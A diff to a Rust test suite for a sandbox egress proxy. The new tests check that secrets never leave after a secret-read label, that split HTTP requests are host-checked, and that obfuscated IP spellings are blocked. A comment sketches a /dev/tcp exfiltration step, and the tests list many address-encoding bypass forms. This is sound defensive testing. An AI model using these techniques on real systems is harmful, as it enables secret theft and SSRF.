@@ -221,11 +221,18 @@ async fn echo_server() -> Server {
     }
 }
 
+/// `allowed.test` may carry raw bytes (its rule says `raw`); `web.test`
+/// only HTTP and TLS.
 const POLICY: &str = r#"
 [[network]]
 id = 1
 action = "allow"
-target = "allowed.test"
+target = "allowed.test raw"
+
+[[network]]
+id = 4
+action = "allow"
+target = "web.test"
 
 [[network]]
 id = 2
@@ -252,6 +259,7 @@ fn policy_from(text: &str, mode: Mode) -> Policy {
                 "allowed.test:127.0.0.1",
                 "denied.test:127.0.0.1",
                 "learn.test:127.0.0.1",
+                "web.test:127.0.0.1",
             ]
             .iter()
             .map(|s| AddHost::parse(s).unwrap()),
@@ -938,10 +946,10 @@ async fn raw_tcp_allowed_including_server_first_protocols() {
     let mut banner = [0u8; 16];
     guest.read_exact(&mut banner).await.unwrap();
     assert_eq!(&banner, b"220 echo ready\r\n");
-    guest.write_all(b"ping").await.unwrap();
+    guest.write_all(b"pin\n").await.unwrap();
     let mut pong = [0u8; 4];
     guest.read_exact(&mut pong).await.unwrap();
-    assert_eq!(&pong, b"ping");
+    assert_eq!(&pong, b"pin\n");
     drop(guest);
     let rep = rep.await.unwrap();
     assert_eq!(rep.decision, Verdict::Allow);
@@ -983,10 +991,10 @@ async fn a_policy_change_cuts_an_open_connection_before_it_sends_more() {
     let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", srv.port());
     let mut banner = [0u8; 16];
     guest.read_exact(&mut banner).await.unwrap();
-    guest.write_all(b"ping").await.unwrap();
+    guest.write_all(b"pin\n").await.unwrap();
     let mut pong = [0u8; 4];
     guest.read_exact(&mut pong).await.unwrap();
-    assert_eq!(&pong, b"ping");
+    assert_eq!(&pong, b"pin\n");
     // The policy changes while the connection is open: the next bytes up
     // are refused, not relayed.
     changed.store(true, Ordering::SeqCst);
@@ -1162,7 +1170,7 @@ async fn learn_mode_logs_a_cut_it_did_not_make() {
     let h = harness(Mode::Learn);
     let (changed, _) = deny_when_flagged(&h, Mode::Learn);
     let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", srv.port());
-    guest.write_all(b"ping").await.unwrap();
+    guest.write_all(b"pin\n").await.unwrap();
     let mut pong = [0u8; 20];
     guest.read_exact(&mut pong).await.unwrap();
     changed.store(true, Ordering::SeqCst);
@@ -1233,7 +1241,7 @@ async fn audit_records_carry_every_field() {
     assert_eq!(v["decision"], "allow");
     assert_eq!(v["rule_id"], 1);
     assert_eq!(v["rule_scope"], "global");
-    assert_eq!(v["rule"], "allow allowed.test");
+    assert_eq!(v["rule"], "allow allowed.test raw");
     assert_eq!(v["reason"], "allowed-by-rule");
     assert_eq!(v["host"], "allowed.test");
     assert_eq!(v["port"], srv.port());
@@ -1374,14 +1382,15 @@ async fn idle_tunnels_are_closed() {
         c.idle_timeout = Duration::from_millis(300);
     });
     let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", srv.port());
-    guest.write_all(b"x").await.unwrap();
+    // Not the start of a request line: relayed at once.
+    guest.write_all(b"\0").await.unwrap();
     let rep = tokio::time::timeout(Duration::from_secs(5), rep)
         .await
         .unwrap()
         .unwrap();
     assert_eq!(rep.decision, Verdict::Allow);
     assert_eq!(rep.reason, "idle-timeout");
-    assert_eq!(read_all(&mut guest).await, "220 echo ready\r\nx");
+    assert_eq!(read_all(&mut guest).await, "220 echo ready\r\n\0");
 }
 
 /// Bytes sent up in [`bulk_echo`].
@@ -1489,10 +1498,10 @@ async fn a_policy_change_cuts_a_spliced_tunnel_before_it_sends_more() {
     let (proxy, serve) = standalone(&h).await;
     let mut s = tunnel(proxy, "allowed.test", srv.port()).await;
     // The client speaks first (else the tunnel is a server-first relay).
-    s.write_all(b"ping").await.unwrap();
+    s.write_all(b"pin\n").await.unwrap();
     let mut pong = [0u8; 20];
     s.read_exact(&mut pong).await.unwrap();
-    assert_eq!(&pong, b"220 echo ready\r\nping");
+    assert_eq!(&pong, b"220 echo ready\r\npin\n");
     changed.store(true, Ordering::SeqCst);
     s.write_all(b"leak").await.unwrap();
     let rest = read_all(&mut s).await;
@@ -1530,4 +1539,424 @@ async fn waiting_out_the_first_bytes_timer_does_not_skip_the_sni_check() {
     let rest = read_all(&mut guest).await;
     assert!(!rest.contains("GET"), "{rest}");
     assert_eq!(rep.await.unwrap().reason_code(), "bad-request");
+}
+
+// ------------------------------------------- no byte goes up unchecked
+
+const SECRET: &str = "sk-SECRET-7f3e9d2c";
+
+/// The harness's policy once the guest has read a secret: only
+/// api.anthropic.com (a trusted sink of the user's own file) stays open.
+fn after_secret_read() -> Policy {
+    policy_from(POLICY, Mode::Enforce)
+        .with_trusted_sinks(vec![
+            sandpen_policy::Target::parse("api.anthropic.com").unwrap()
+        ])
+        .with_labels(sandpen_policy::FlowLabels {
+            labels: vec![sandpen_policy::LabelSet {
+                label: sandpen_policy::Label::SecretRead,
+                at: "2026-12-04T12:00:00Z".into(),
+                by: "/w/secrets/token".into(),
+            }],
+        })
+}
+
+/// A refresh hook as the supervisor's label watch: once the flag is set,
+/// the next refresh installs [`after_secret_read`].
+fn label_when_flagged(h: &Harness) -> Arc<AtomicBool> {
+    let flag = Arc::new(AtomicBool::new(false));
+    let f = flag.clone();
+    h.proxy.set_refresh(Some(Arc::new(move |p: &Proxy| {
+        if f.swap(false, Ordering::SeqCst) {
+            p.set_policy(after_secret_read());
+        }
+    })));
+    flag
+}
+
+fn assert_cut_by_the_label(rep: &ConnectionReport) {
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert!(
+        rep.reason
+            .starts_with("policy-changed: flow: secret-read at 2026-12-04T12:00:00Z"),
+        "{rep:?}"
+    );
+}
+
+async fn assert_nothing_arrived(got: &Mutex<Vec<u8>>) {
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    let got = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
+    assert!(
+        !got.contains(SECRET),
+        "the listener got the secret: {got:?}"
+    );
+    assert!(got.is_empty(), "the listener got {got:?}");
+}
+
+/// `exec 3<>/dev/tcp/leak.test/PORT`, then read the secret, then write it:
+/// the connection was allowed when it opened, but its first bytes leave
+/// after the label, so the label decides them.
+#[tokio::test]
+async fn first_bytes_written_after_a_secret_read_never_leave() {
+    let (port, got) = raw_sink().await;
+    let h = harness(Mode::Enforce);
+    let flag = label_when_flagged(&h);
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", port);
+    // Decided and allowed; the guest has not written yet (and is quicker
+    // than the server-first wait).
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    flag.store(true, Ordering::SeqCst);
+    guest
+        .write_all(format!("\0{SECRET}\n").as_bytes())
+        .await
+        .unwrap();
+    let rep = rep.await.unwrap();
+    assert_cut_by_the_label(&rep);
+    assert_nothing_arrived(&got).await;
+}
+
+/// The same on the server-first path: the proxy connected after the
+/// client's silence, and the client speaks 2 s later, after the read.
+#[tokio::test]
+async fn server_first_bytes_after_a_pause_and_a_secret_read_never_leave() {
+    let (port, got) = raw_sink().await;
+    let h = harness(Mode::Enforce);
+    let flag = label_when_flagged(&h);
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", port);
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    flag.store(true, Ordering::SeqCst);
+    guest
+        .write_all(format!("\0{SECRET}\n").as_bytes())
+        .await
+        .unwrap();
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.proto.as_deref(), Some("tcp"), "server-first: {rep:?}");
+    assert!(rep.addr.is_some(), "the proxy had connected: {rep:?}");
+    assert_cut_by_the_label(&rep);
+    assert_nothing_arrived(&got).await;
+}
+
+/// In HTTP-proxy mode the stream opens before the read and the CONNECT
+/// comes after it: it is decided by the policy in force then.
+#[tokio::test]
+async fn a_connect_sent_after_a_secret_read_is_refused() {
+    let (port, got) = raw_sink().await;
+    let h = harness(Mode::Enforce);
+    let flag = label_when_flagged(&h);
+    let (mut guest, rep) = h.open(EgressMode::HttpProxy, "", 0);
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    flag.store(true, Ordering::SeqCst);
+    guest
+        .write_all(
+            format!("CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n\0{SECRET}\n")
+                .as_bytes(),
+        )
+        .await
+        .unwrap();
+    let resp = read_all(&mut guest).await;
+    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");
+    assert!(resp.contains("X-Sandpen-Reason: flow"), "{resp}");
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert!(rep.reason.starts_with("flow: secret-read"), "{rep:?}");
+    assert_nothing_arrived(&got).await;
+}
+
+// ------------------------------------------------ the Host check is total
+
+/// A request line in lower case, or split anywhere (`G` … `ET / HTTP/1.1`),
+/// is still a request: its `Host: other.test` never reaches the upstream of
+/// a connection allowed for another name, with or without ` raw`.
+#[tokio::test]
+async fn lowercase_and_split_request_lines_are_host_checked() {
+    let h = harness(Mode::Enforce);
+    let other = "Host: other.test\r\n\r\n";
+    let cases: [(&str, &[&str]); 5] = [
+        ("lowercase", &["get / HTTP/1.1\r\n"]),
+        ("split after G", &["G", "ET / HTTP/1.1\r\n"]),
+        ("split in the version", &["GET / HT", "TP/1.1\r\n"]),
+        (
+            "blank line, lower case, split",
+            &["\r\nge", "t / http/1.1\r\n"],
+        ),
+        ("custom method", &["x-fetch /a HTTP/1.1\r\n"]),
+    ];
+    for claimed in ["allowed.test", "web.test"] {
+        for (what, chunks) in cases {
+            let (port, got) = raw_sink().await;
+            let (mut guest, rep) = h.open(EgressMode::Transparent, claimed, port);
+            for (i, chunk) in chunks.iter().enumerate() {
+                if i > 0 {
+                    // Longer than the server-first wait: not a reason to stop looking.
+                    tokio::time::sleep(Duration::from_millis(300)).await;
+                }
+                guest.write_all(chunk.as_bytes()).await.unwrap();
+            }
+            guest.write_all(other.as_bytes()).await.unwrap();
+            let resp = read_all(&mut guest).await;
+            let rep = rep.await.unwrap();
+            assert_eq!(rep.decision, Verdict::Deny, "{claimed} {what}: {rep:?}");
+            assert!(
+                matches!(rep.reason_code(), "host-mismatch" | "bad-request"),
+                "{claimed} {what}: {rep:?}"
+            );
+            if what != "blank line, lower case, split" {
+                assert!(resp.starts_with("HTTP/1.1 403"), "{claimed} {what}: {resp}");
+                assert_eq!(rep.reason_code(), "host-mismatch", "{claimed} {what}");
+            }
+            let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
+            assert!(
+                sent.is_empty(),
+                "{claimed} {what}: the upstream got {sent:?}"
+            );
+        }
+    }
+}
+
+/// After the server-first wait a split request is refused too, and on a
+/// name rule without ` raw` the silent client is refused before anything
+/// connects.
+#[tokio::test]
+async fn a_split_request_after_the_server_first_wait_is_refused() {
+    let h = harness(Mode::Enforce);
+    for claimed in ["allowed.test", "web.test"] {
+        let (port, got) = raw_sink().await;
+        let (mut guest, rep) = h.open(EgressMode::Transparent, claimed, port);
+        tokio::time::sleep(Duration::from_millis(400)).await;
+        let _ = guest.write_all(b"G").await;
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        let _ = guest
+            .write_all(b"ET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
+            .await;
+        let rep = rep.await.unwrap();
+        assert_eq!(rep.decision, Verdict::Deny, "{claimed}: {rep:?}");
+        let want = if claimed == "web.test" {
+            "raw-refused"
+        } else {
+            "bad-request"
+        };
+        assert_eq!(rep.reason_code(), want, "{claimed}: {rep:?}");
+        assert_nothing_arrived(&got).await;
+    }
+}
+
+/// Bytes that are neither HTTP nor TLS pass only where the rule that
+/// allowed the name says `raw`.
+#[tokio::test]
+async fn raw_bytes_need_a_raw_rule() {
+    let h = harness(Mode::Enforce);
+    let (port, got) = raw_sink().await;
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "web.test", port);
+    guest
+        .write_all(b"\0\0\0\x08\x04\xd2\x16\x2f")
+        .await
+        .unwrap();
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert_eq!(rep.reason_code(), "raw-refused", "{rep:?}");
+    assert_eq!(rep.rule.as_deref(), Some("allow web.test"), "{rep:?}");
+    assert_eq!(rep.addr, None, "nothing was connected");
+    assert_nothing_arrived(&got).await;
+
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", port);
+    guest
+        .write_all(b"\0\0\0\x08\x04\xd2\x16\x2f")
+        .await
+        .unwrap();
+    wait_for_bytes(&got, "\u{4}").await;
+    drop(guest);
+    assert_eq!(rep.await.unwrap().decision, Verdict::Allow);
+}
+
+// ---------------------------------------------------------- blocked forms
+
+/// The IPv6 forms that embed an IPv4 address, and the host's own
+/// addresses, are refused as literals even under `allow **` (by name: the
+/// policy crate's tests, which give `check` the resolved addresses).
+#[tokio::test]
+async fn new_blocked_forms_are_refused_as_literals() {
+    let h = harness_with(
+        policy_from(
+            "[[network]]\nid = 1\naction = \"allow\"\ntarget = \"**\"\n",
+            Mode::Enforce,
+        ),
+        |_| {},
+    );
+    let mut literals: Vec<String> = [
+        "::127.0.0.1",
+        "::a00:1",
+        "64:ff9b:1::a00:1",
+        "2002:a00:1::1",
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect();
+    for ip in sandpen_policy::hostaddrs::host_addresses() {
+        literals.push(ip.to_string());
+    }
+    for lit in literals {
+        let (_guest, rep) = h.open(EgressMode::Transparent, &lit, 8080);
+        let rep = rep.await.unwrap();
+        assert_eq!(rep.decision, Verdict::Deny, "{lit}: {rep:?}");
+        assert_eq!(rep.reason_code(), "blocked-address", "{lit}: {rep:?}");
+        h.assert_check_agrees(&rep).await;
+    }
+}
+
+// ------------------------------------ `policy check` and the proxy agree
+
+/// The ways a guest can spell an IPv4 address that the host's resolver
+/// (`inet_aton`) or the policy's parser may read: dotted, one number in
+/// decimal, octal or hex, dotted octal and hex, the short forms, a trailing
+/// dot, IPv4-mapped IPv6 (bracketed or not, dotted or hex).
+fn spellings(ip: [u8; 4]) -> Vec<String> {
+    let [a, b, c, d] = ip;
+    let n = u32::from_be_bytes(ip);
+    let (a, b, c, d) = (u32::from(a), u32::from(b), u32::from(c), u32::from(d));
+    vec![
+        format!("{a}.{b}.{c}.{d}"),
+        format!("{a}.{b}.{c}.{d}."),
+        format!("{n}"),
+        format!("0{n:o}"),
+        format!("0x{n:08x}"),
+        format!("0X{n:08X}"),
+        format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
+        format!("0x{a:x}.0x{b:x}.0x{c:x}.0x{d:x}"),
+        format!("{a}.{b}.{}", c * 256 + d),
+        format!("{a}.{}", b * 65536 + c * 256 + d),
+        format!("0{a:o}.{b}.0x{c:x}.{d}."),
+        format!("::ffff:{a}.{b}.{c}.{d}"),
+        format!("[::ffff:{a}.{b}.{c}.{d}]"),
+        format!("::ffff:{:x}:{:x}", a * 256 + b, c * 256 + d),
+        format!("::{a}.{b}.{c}.{d}"),
+    ]
+}
+
+/// For every spelling of a blocked, a denied and a public address, and for
+/// names in other cases, with trailing dots and in IDNA forms, the proxy
+/// decides as `policy check` (`decide`) does; and no spelling of a blocked
+/// or denied address is ever let through.
+#[tokio::test]
+async fn policy_check_and_the_proxy_agree_on_every_spelling() {
+    let h = harness_with(
+        policy_from(
+            "[[network]]\nid = 1\naction = \"allow\"\ntarget = \"** raw\"\n\
+             [[network]]\nid = 2\naction = \"deny\"\ntarget = \"198.51.100.0/24\"\n\
+             [[network]]\nid = 3\naction = \"deny\"\ntarget = \"denied.test\"\n",
+            Mode::Enforce,
+        ),
+        |c| c.connect_timeout = Duration::from_millis(200),
+    );
+    let mut hosts: Vec<(String, bool)> = Vec::new();
+    for (ip, may_pass) in [
+        ([127, 0, 0, 1], false),
+        ([10, 1, 2, 3], false),
+        ([169, 254, 169, 254], false),
+        ([198, 51, 100, 7], false),
+        ([203, 0, 113, 9], true),
+    ] {
+        hosts.extend(spellings(ip).into_iter().map(|s| (s, may_pass)));
+    }
+    for name in [
+        "allowed.test",
+        "ALLOWED.test.",
+        "Allowed.Test",
+        "denied.test",
+        "DENIED.TEST.",
+        "xn--dnied-fsa.test",
+        "dénied.test",
+        "denied.test..",
+        ".denied.test",
+        "denied..test",
+        "",
+    ] {
+        hosts.push((
+            name.to_string(),
+            !name.to_ascii_lowercase().contains("denied"),
+        ));
+    }
+    let mut passed = Vec::new();
+    for (host, may_pass) in hosts {
+        let (mut guest, rep) = h.open(EgressMode::Transparent, &host, 9);
+        let _ = guest.write_all(b"\0").await;
+        drop(guest);
+        let rep = rep.await.unwrap();
+        let c = decide(&h.proxy.policy(), &host, 9).await;
+        assert_eq!(c.decision.verdict, rep.decision, "{host:?}: {rep:?}");
+        assert_eq!(
+            c.decision.rule.as_ref().map(|r| r.id),
+            rep.rule_id,
+            "{host:?}"
+        );
+        if rep.decision == Verdict::Deny {
+            assert_eq!(c.decision.reason, rep.reason, "{host:?}");
+        }
+        if !may_pass {
+            assert_eq!(rep.decision, Verdict::Deny, "{host:?} passed: {rep:?}");
+        }
+        if host == "2130706433" || host == "0x7f.0x0.0x0.0x1" {
+            // Not a literal to the policy, a name the resolver reads as
+            // 127.0.0.1: refused on the address.
+            assert_eq!(rep.reason, "blocked-address: 127.0.0.1", "{host:?}");
+        }
+        if rep.decision == Verdict::Allow {
+            passed.push(host);
+        }
+    }
+    // The public address gets through in its plain spellings (and the
+    // resolver's), so the test is not passing by refusing everything.
+    for host in ["203.0.113.9", "3405803785", "allowed.test", "ALLOWED.test."] {
+        assert!(
+            passed.iter().any(|p| p == host),
+            "{host} refused: {passed:?}"
+        );
+    }
+}
+
+/// After `secret-read`, a trusted sink that only the workspace's
+/// `.sandpen.toml` names is not a sink for a connection the proxy does not
+/// intercept (plain HTTP here, or TLS without a secret): it could carry any
+/// key. The user's own file makes it one.
+#[tokio::test]
+async fn a_workspace_sink_is_no_sink_without_interception() {
+    let srv = http_server().await;
+    let ws = sandpen_policy::WorkspaceFile::parse(
+        "[flow]\ntrusted_sinks = [\"allowed.test\"]\n",
+        std::path::Path::new("/w/.sandpen.toml"),
+    )
+    .unwrap();
+    let labelled = after_secret_read().with_workspace(Some(ws));
+    let h = harness_with(labelled.clone(), |_| {});
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", srv.port());
+    guest
+        .write_all(b"GET /upload HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
+        .await
+        .unwrap();
+    let resp = read_all(&mut guest).await;
+    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");
+    assert!(resp.contains("X-Sandpen-Reason: flow"), "{resp}");
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert!(rep.reason.contains("only through interception"), "{rep:?}");
+    assert!(srv.seen().is_empty(), "{:?}", srv.seen());
+    // `policy check` says the condition.
+    let said = decide(&h.proxy.policy(), "allowed.test", srv.port()).await;
+    assert!(
+        said.decision
+            .to_string()
+            .contains("only through interception"),
+        "{}",
+        said.decision
+    );
+
+    // Named by the user's own file: a sink.
+    let h = harness_with(
+        labelled.with_trusted_sinks(vec![sandpen_policy::Target::parse("allowed.test").unwrap()]),
+        |_| {},
+    );
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", srv.port());
+    let resp = get_on(&mut guest, srv.port(), "/fine").await;
+    assert!(resp.ends_with("hello /fine"), "{resp}");
+    drop(guest);
+    assert_eq!(rep.await.unwrap().decision, Verdict::Allow);
 }
